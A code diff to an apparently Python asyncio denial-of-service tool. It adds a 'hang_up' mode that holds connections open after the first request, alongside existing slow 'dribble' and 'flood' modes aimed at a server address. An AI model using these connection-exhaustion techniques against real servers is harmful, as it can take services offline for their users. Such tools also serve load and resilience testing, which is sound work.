@@ -30,6 +30,7 @@ class Attack:
 
     Each sends `first`, then `then` again and again.
 
+    With `hang_up` seconds it sends `first` and closes its connection so much later, again and again.
     With `every` seconds it dribbles: one piece of `then` at a time, whatever is answered ends the connection. With
     `every` 0 it floods: `then` is a whole request, sent again after each answer. Without `tls` nothing is encrypted.
     """
@@ -42,6 +43,7 @@ class Attack:
     first: str = ""
     then: str = ""
     every: float = 0.0
+    hang_up: float = 0.0
     tls: bool = True
 
 
@@ -101,7 +103,7 @@ class _Attacker:
         return self._ends
 
     async def _client(self, address: str) -> None:
-        act = self._dribble if self._attack.every else self._flood
+        act = self._dribble if self._attack.every else self._hang_up if self._attack.hang_up else self._flood
         first = True
         while self._left() > 0:
             connection = await self._connect(address)
@@ -153,6 +155,11 @@ class _Attacker:
             writer.write(self._attack.then.encode("latin-1"))
             await writer.drain()
         self._ends["held"] += 1
+
+    async def _hang_up(self, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        writer.write(self._attack.first.encode("latin-1"))
+        await asyncio.sleep(min(self._attack.hang_up, self._left()))
+        self._ends["hung up"] += 1
 
     async def _flood(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         while self._left() > 0:
